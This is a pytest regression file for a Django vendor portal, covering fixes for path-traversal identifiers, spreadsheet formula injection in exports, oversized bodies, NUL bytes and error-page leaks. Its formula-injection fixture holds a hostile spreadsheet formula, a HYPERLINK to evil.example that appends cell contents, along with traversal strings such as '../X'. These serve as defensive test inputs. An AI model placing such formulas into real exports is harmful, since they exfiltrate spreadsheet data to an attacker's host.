"""Regressions for what a probe of the running demo broke (issue 14, cases 2-10).

Case 1 (the client address behind proxies) is in tests/test_client_address.py, against the
real server. Each test here failed (a 500, a stored NUL, a live formula, ...) before its fix.
"""

from __future__ import annotations

import csv
import datetime as dt
import io
import json
from decimal import Decimal

import pytest
from django.test import Client
from django.urls import reverse
from openpyxl import load_workbook

from tests import clock
from tests.factories import ItemFactory, UserFactory, make_order
from tests.test_api import BASE, Api, token_for
from vendorportal.accounts import services as accounts
from vendorportal.accounts.models import Role
from vendorportal.api.models import ApiToken
from vendorportal.collaboration.models import ChangeProposal, Comment
from vendorportal.core.cells import for_csv
from vendorportal.errors import DomainError
from vendorportal.purchasing import rules, services
from vendorportal.purchasing.models import PurchaseOrder, Vendor

pytestmark = pytest.mark.django_db


@pytest.fixture
def order(vendor_a, buyer):
    return make_order(vendor=vendor_a, by=buyer, number="PO-PROBE-1")


@pytest.fixture
def as_amos(amos, vendor_a):
    return Api(token_for(amos, vendor=vendor_a))


@pytest.fixture
def as_erp(db):
    admin = UserFactory(email="erp-admin@example.com", role=Role.BUYER, is_staff=True)
    return Api(token_for(admin))


def raw_post(path: str, body: bytes, secret: str, content_type: str = "application/json"):
    return Client().post(
        BASE + path, data=body, content_type=content_type, HTTP_AUTHORIZATION=f"Bearer {secret}"
    )


# --- case 2: identifiers -------------------------------------------------------------------


@pytest.mark.parametrize("number", ["PO/../x", "../X", "PO 1", "PO#1", "PO?1", ".hidden", "PO%2F"])
def test_an_order_number_that_would_break_addresses_is_refused(vendor_a, buyer, number):
    with pytest.raises(DomainError) as refused:
        make_order(vendor=vendor_a, by=buyer, number=number)
    assert refused.value.field == "number"
    assert "may only have" in refused.value.message
    assert not PurchaseOrder.objects.filter(number=number).exists()


def test_sync_refuses_such_numbers_and_vendor_codes_naming_the_field(as_erp):
    vendor = as_erp.post("/sync/vendors", {"external_id": "V-1", "code": "../X", "name": "X"})
    assert vendor.status_code == 422
    assert vendor.data["error"]["details"]["field"] == "code"
    assert not Vendor.objects.filter(external_id="V-1").exists()
    as_erp.post("/sync/vendors", {"external_id": "V-1", "code": "V1", "name": "X"})
    as_erp.post("/sync/items", {"external_id": "I-1", "part_number": "P-1", "description": "P"})
    order = {
        "external_id": "E-1",
        "number": "PO/../x",
        "vendor_external_id": "V-1",
        "lines": [
            {
                "line_number": 1,
                "item_external_id": "I-1",
                "quantity": "1",
                "unit_price": "1",
                "deliveries": [
                    {"delivery_number": 1, "quantity": "1", "due_date": clock.days(20).isoformat()}
                ],
            }
        ],
    }
    refused = as_erp.post("/sync/orders", order)
    assert refused.status_code == 422
    assert refused.data["error"]["details"]["field"] == "number"
    assert not PurchaseOrder.objects.filter(external_id="E-1").exists()


def test_the_back_office_uses_the_same_rule(client, buyer):
    admin = UserFactory(email="root@example.com", role=Role.BUYER, is_staff=True, is_superuser=True)
    client.force_login(admin)
    page = client.post(
        reverse("admin:purchasing_vendor_add"), {"code": "A/B", "name": "Slash", "active": "on"}
    )
    assert page.status_code == 200
    assert "May only have letters, digits" in page.content.decode()
    assert not Vendor.objects.filter(name="Slash").exists()


def test_lists_and_pages_survive_an_old_number_with_a_slash(client, vendor_a, buyer, amos):
    """Older data may hold what the rule now refuses: the lists link to it and its page opens."""
    legacy = make_order(vendor=vendor_a, by=buyer, number="PO-LEGACY")
    PurchaseOrder.objects.filter(pk=legacy.pk).update(number="PO/../x")
    for user, side in ((buyer, "buying"), (amos, "portal")):
        client.force_login(user)
        for name in ("orders", "open-lines", "home"):
            page = client.get(reverse(f"{side}:{name}"))
            assert page.status_code == 200, (side, name)
        link = reverse(f"{side}:order-detail", args=["PO/../x"])
        assert "/" not in link.removeprefix(f"/{side}/orders/").removesuffix("/")
        assert link in client.get(reverse(f"{side}:orders")).content.decode()
        assert link in client.get(reverse(f"{side}:open-lines")).content.decode()
        detail = client.get(link)
        assert detail.status_code == 200 and "PO/../x" in detail.content.decode()
    client.force_login(buyer)
    assert client.get(reverse("buying:audit")).status_code == 200


# --- case 3: formula injection in exports --------------------------------------------------

# (A leading tab or space is trimmed by the text rule before it is stored; the cell rule
# below is tested for those on its own.)
HOSTILE = ['=HYPERLINK("http://evil.example/?"&A1)', "+1+2", "-2+3", "@SUM(A1)", "=1+1"]


@pytest.fixture
def hostile_order(vendor_a, buyer):
    lines = []
    for text in HOSTILE:
        lines.append(
            services.LineInput(
                item=ItemFactory(description=text),
                quantity=Decimal("360"),
                unit_price=Decimal("2.5"),
                due_date=clock.days(10),
                description=text,
            )
        )
    order = services.order_create(vendor=vendor_a, by=buyer, lines=lines, number="PO-FORMULA")
    return services.order_issue(order=order, by=buyer)


def test_csv_export_neutralises_formulas_and_keeps_numbers(client, amos, hostile_order):
    client.force_login(amos)
    response = client.get(reverse("portal:open-lines-csv"))
    rows = list(csv.DictReader(io.StringIO(response.content.decode("utf-8-sig"))))
    descriptions = sorted(row["Description"] for row in rows)
    assert descriptions == sorted("'" + text for text in HOSTILE)
    for row in rows:
        assert not row["Quantity"].startswith("'")
        assert Decimal(row["Quantity"]) == 360


def test_xlsx_export_writes_formulas_as_text_and_numbers_as_numbers(client, amos, hostile_order):
    client.force_login(amos)
    response = client.get(reverse("portal:open-lines-xlsx"))
    sheet = load_workbook(io.BytesIO(response.content)).active
    header = [cell.value for cell in sheet[1]]
    description, quantity = header.index("Description"), header.index("Quantity")
    body = list(sheet.iter_rows(min_row=2))
    assert sorted(row[description].value for row in body) == sorted(HOSTILE)
    for row in body:
        assert row[description].data_type == "s"  # a string, not a formula ("f")
        assert row[description].quotePrefix
        assert row[quantity].data_type == "n" and row[quantity].value == 360


def test_the_cell_rule():
    assert for_csv("=1+1") == "'=1+1"
    assert for_csv("  =1+1") == "'  =1+1"
    assert for_csv("\t=1+1") == "'\t=1+1"
    assert for_csv("\r@x") == "'\r@x"
    assert for_csv("\uff1dcmd") == "'\uff1dcmd"  # the full-width equals sign
    assert for_csv("Bracket = steel") == "Bracket = steel"
    assert for_csv(Decimal("-5")) == Decimal("-5")  # numbers stay numbers


# --- case 4: body sizes --------------------------------------------------------------------


def test_a_body_over_the_limit_is_413_with_the_error_body(settings, as_amos, amos, vendor_a, order):
    secret = token_for(amos, vendor=vendor_a)
    big = json.dumps({"body": "x" * (settings.API_MAX_BODY_BYTES + 10)}).encode()
    response = raw_post(f"/orders/{order.number}/comments", big, secret)
    assert response.status_code == 413
    assert response.json()["error"]["code"] == "too_large"
    assert not Comment.objects.exists()


def test_a_batch_the_size_of_the_documented_example_is_not_refused_for_its_size(settings, as_erp):
    """1,000 orders of 12 lines are 4.4 MB: under the limit, so the API reads it (and here
    refuses it for its content, an unknown vendor, not for its size)."""
    line = {
        "line_number": 1,
        "item_external_id": "I-1",
        "quantity": "100",
        "unit_price": "2.5",
        "description": "Bracket, galvanised steel, 40 x 40 x 3 mm, zinc flake coated, DIN 6798",
        "vendor_part_number": "ACME-BRK-40403-ZF",
        "unit_of_measure": "EA",
        "deliveries": [{"delivery_number": 1, "quantity": "100", "due_date": "2027-01-15"}],
    }
    record = {
        "external_id": "E",
        "number": "PO-1",
        "vendor_external_id": "NOBODY",
        "lines": [{**line, "line_number": n} for n in range(1, 13)],
    }
    body = json.dumps({"records": [{**record, "external_id": f"E-{i}"} for i in range(1000)]})
    assert 4_000_000 < len(body) < settings.API_MAX_BODY_BYTES
    response = as_erp.client.post(
        f"{BASE}/sync/orders/batch", data=body, content_type="application/json", **as_erp.headers
    )
    assert response.status_code == 200
    assert response.json()["errors"] == 1000


def test_a_web_form_over_its_limit_is_413_with_the_products_page(settings, client, amos, order):
    client.force_login(amos)
    response = client.post(
        reverse("portal:order-comment", args=[order.number]),
        {"body": "x" * (settings.WEB_MAX_BODY_BYTES + 10)},
    )
    assert response.status_code == 413
    assert "Too large" in response.content.decode()
    assert not Comment.objects.exists()


# --- case 5: numeric query parameters ------------------------------------------------------


@pytest.mark.parametrize("page", [str(2**70), "-1", "1e3", "9" * 5000, "١٢"])
def test_page_numbers_are_bounded(client, amos, order, page):
    client.force_login(amos)
    for name in ("portal:open-lines", "portal:orders", "portal:receipts", "portal:invoices"):
        response = client.get(reverse(name), {"page": page})
        assert response.status_code == 200, (name, page)


def test_api_numbers_in_the_query_are_refused_cleanly(as_amos, order):
    assert as_amos.get(f"/events?after={2**70}").status_code == 422
    assert as_amos.get("/deliveries?due_before=0").status_code == 422
    assert as_amos.get("/orders?updated_since=0.5").status_code == 422
    assert as_amos.get(f"/orders?limit={2**70}").status_code == 200  # clamped to the maximum


# --- case 6: NUL bytes ---------------------------------------------------------------------


def test_nul_bytes_are_refused_at_the_edge(as_amos, amos, vendor_a, order):
    secret = token_for(amos, vendor=vendor_a)
    body = json.dumps({"body": "hello\u0000world"}).encode()
    response = raw_post(f"/orders/{order.number}/comments", body, secret)
    assert response.status_code == 400
    assert response.json()["error"]["details"] == {"field": "body.body"}
    assert not Comment.objects.exists()
    assert as_amos.get("/orders?status=open%00").status_code == 400


def test_nul_bytes_in_a_query_and_in_a_form_never_reach_the_database(client, amos, order):
    client.force_login(amos)
    assert client.get(reverse("portal:orders"), {"q": "PO\x00"}).status_code == 400
    client.post(reverse("portal:order-comment", args=[order.number]), {"body": "a\x00b"})
    assert not Comment.objects.exists()


def test_services_refuse_control_characters(order, amos):
    from vendorportal.collaboration import services as collaboration

    with pytest.raises(DomainError) as refused:
        collaboration.comment_add(order=order, by=amos, body="bell\x07")
    assert refused.value.field == "body"


# --- case 7: lax values --------------------------------------------------------------------


def proposal(order, **changes):
    line = order.lines.get()
    return {
        "line_number": line.line_number,
        "delivery_number": 1,
        "reason": "Our furnace is down",
        **changes,
    }


@pytest.mark.parametrize("due", ["9999-12-31", "0001-01-01"])
def test_dates_outside_the_window_are_refused_naming_the_field(as_amos, order, due):
    response = as_amos.post(f"/orders/{order.number}/proposals", proposal(order, due_date=due))
    assert response.status_code == 422
    assert response.data["error"]["details"]["field"] == "due_date"
    assert "between" in response.data["error"]["message"]
    assert not ChangeProposal.objects.exists()


def test_the_date_window_is_relative_to_today():
    first, last = rules.date_window()
    assert first == dt.date(clock.TODAY.year - 5, clock.TODAY.month, clock.TODAY.day)
    assert last == dt.date(clock.TODAY.year + 10, clock.TODAY.month, clock.TODAY.day)
    assert rules.date_window(dt.date(2028, 2, 29)) == (dt.date(2023, 2, 28), dt.date(2038, 2, 28))


def test_negative_zero_and_foreign_digits_are_not_prices_or_quantities(as_amos, order):
    minus_zero = as_amos.post(f"/orders/{order.number}/proposals", proposal(order, unit_price=-0.0))
    assert minus_zero.status_code == 422
    assert minus_zero.data["error"]["details"]["field"] == "unit_price"
    assert "must not be negative" in minus_zero.data["error"]["message"]
    arabic = as_amos.post(f"/orders/{order.number}/proposals", proposal(order, quantity="١٢"))
    assert arabic.status_code == 422
    assert "quantity" in arabic.data["error"]["message"]
    assert not ChangeProposal.objects.exists()


@pytest.mark.parametrize("revision", ["1", True, 1.5])
def test_a_revision_number_is_a_json_integer(as_amos, order, revision):
    response = as_amos.post(
        f"/orders/{order.number}/acknowledgements", {"revision": revision, "response": "accepted"}
    )
    assert response.status_code == 422
    assert "revision" in response.data["error"]["message"]


def test_json_sent_as_text_plain_is_415(amos, vendor_a, order):
    body = json.dumps({"revision": 1, "response": "accepted"}).encode()
    response = raw_post(
        f"/orders/{order.number}/acknowledgements",
        body,
        token_for(amos, vendor=vendor_a),
        "text/plain",
    )
    assert response.status_code == 415
    assert response.json()["error"]["code"] == "unsupported_media_type"


def test_duplicate_json_keys_are_refused(amos, vendor_a, order):
    body = b'{"revision": 1, "response": "rejected", "response": "accepted"}'
    response = raw_post(
        f"/orders/{order.number}/acknowledgements", body, token_for(amos, vendor=vendor_a)
    )
    assert response.status_code == 400
    assert response.json()["error"]["details"] == {"field": "response"}


def test_the_schema_states_the_idempotency_key_rule():
    from tests.test_api import schema

    operation = schema()["paths"][f"{BASE}/orders/{{number}}/comments"]["post"]
    header = next(p for p in operation["parameters"] if p["name"] == "Idempotency-Key")
    values = header["schema"].get("anyOf", [header["schema"]])
    string = next(v for v in values if v.get("type") == "string")
    assert (string["minLength"], string["maxLength"]) == (1, 255)


# --- case 9: a reactivated login's tokens --------------------------------------------------


def test_deactivation_revokes_tokens_for_good(alice, amos, vendor_a, order):
    secret = token_for(amos, vendor=vendor_a)
    assert Api(secret).get("/orders").status_code == 200
    accounts.user_deactivate(user=amos, by=alice)
    assert ApiToken.objects.get(user=amos).revoked_at is not None
    accounts.user_reactivate(user=amos, by=alice)
    assert Api(secret).get("/orders").status_code == 401


# --- case 10: Last-Event-ID beyond the newest event ----------------------------------------


@pytest.mark.django_db(transaction=True)
def test_a_resume_point_from_the_future_is_clamped(tmp_path, amos, buyer, vendor_a):
    from tests.asgi import open_stream, request, running_server
    from tests.test_live import comment, session_of
    from vendorportal.events.models import Event

    order = make_order(vendor=vendor_a, by=buyer, number="PO-LIVE-1")
    with running_server(tmp_path) as server:
        session = session_of(amos)
        newest = Event.objects.order_by("-id").values_list("id", flat=True).first() or 0
        stream = open_stream(
            server, "/portal/events", session=session, last_event_id=newest + 10**6
        )
        try:
            comment(server, session, "portal", order.number, "after a bad Last-Event-ID")
            messages = stream.take(1, timeout=10)
        finally:
            stream.close()
        assert messages, "the stream dropped a live event after a future Last-Event-ID"
        assert request(server, "GET", "/health/live")[0] == 200


# --- error pages: the product's, in DEBUG too; never a traceback with DEBUG off -----------


@pytest.mark.parametrize("debug", [True, False])
def test_pages_of_another_role_answer_the_products_404(settings, client, amos, debug):
    settings.DEBUG = debug
    client.force_login(amos)
    for path in ("/buying/", "/portal/team/", "/no/such/page/"):
        page = client.get(path)
        text = page.content.decode()
        assert page.status_code == 404, path
        assert "Page not found (404)" in text and "Go to your home page" in text, path
        assert "URLconf" not in text and "Django" not in text, path


@pytest.mark.parametrize("debug", [True, False])
def test_an_unexpected_error_shows_no_traceback(settings, monkeypatch, amos, vendor_a, debug):
    settings.DEBUG = debug
    from vendorportal.api import endpoints
    from vendorportal.web import views

    def broken(*args, **kwargs):
        raise RuntimeError("secret internals")

    monkeypatch.setattr(endpoints.selectors, "open_deliveries", broken)
    api = Client(raise_request_exception=False)
    answer = api.get(
        f"{BASE}/deliveries", HTTP_AUTHORIZATION=f"Bearer {token_for(amos, vendor=vendor_a)}"
    )
    assert answer.status_code == 500
    assert answer.json()["error"]["code"] == "internal_error"
    assert "secret internals" not in answer.content.decode()
    if not debug:  # with DEBUG on, Django's page is the developer's (the banner says so)
        monkeypatch.setattr(views.selectors, "open_line_page", broken)
        web = Client(raise_request_exception=False)
        web.force_login(amos)
        page = web.get(reverse("portal:open-lines"))
        assert page.status_code == 500
        assert "Something went wrong (500)" in page.content.decode()
        assert "Traceback" not in page.content.decode()
        assert "secret internals" not in page.content.decode()


def test_the_probe_cases_answer_4xx_with_debug_off(settings, amos, vendor_a, order):
    settings.DEBUG = False
    secret = token_for(amos, vendor=vendor_a)
    client = Client(raise_request_exception=False)
    client.force_login(amos)
    cases = [
        client.get(reverse("portal:open-lines"), {"page": str(2**70)}),
        client.get(reverse("portal:orders"), {"q": "\x00"}),
        raw_post(f"/orders/{order.number}/comments", b'{"body": "a\\u0000"}', secret),
        raw_post(f"/orders/{order.number}/comments", b'{"body": "a"}', secret, "text/plain"),
        raw_post(f"/orders/{order.number}/comments", b'{"body": 1, "body": 2}', secret),
        raw_post(f"/orders/{order.number}/comments", b"x" * (33 * 1024 * 1024), secret),
    ]
    for response in cases:
        assert response.status_code < 500
        assert b"Traceback" not in response.content
